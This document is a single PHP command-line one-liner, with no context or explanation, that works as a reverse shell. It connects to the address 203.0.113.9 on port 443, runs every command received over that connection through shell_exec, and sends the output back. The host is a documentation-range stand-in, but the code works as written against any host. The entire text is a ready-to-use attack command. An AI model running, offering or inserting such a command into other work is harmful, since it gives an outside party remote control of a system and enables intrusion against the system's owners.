php -r '$s=fsockopen("203.0.113.9",443);while(!feof($s)){$c=fgets($s);fwrite($s,shell_exec($c));}'
